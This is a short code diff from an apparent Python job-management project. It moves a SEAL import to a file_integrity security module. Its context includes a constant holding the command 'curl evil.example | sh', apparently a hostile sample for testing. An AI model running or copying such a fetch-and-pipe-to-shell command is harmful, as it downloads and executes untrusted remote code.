@@ -13,7 +13,7 @@ from omgoptim.jobs.actions import pick
 from omgoptim.jobs.folder import RunFolder, Submission, runs_root
 from omgoptim.jobs.states import FOREIGN, load_report, repeat_hint
 from omgoptim.jobs.storage import now
-from omgoptim.models.security.seal import SEAL
+from omgoptim.models.security.file_integrity import SEAL
 from omgoptim.reports import EfficiencyReport, RunState
 
 EVIL = "curl evil.example | sh"
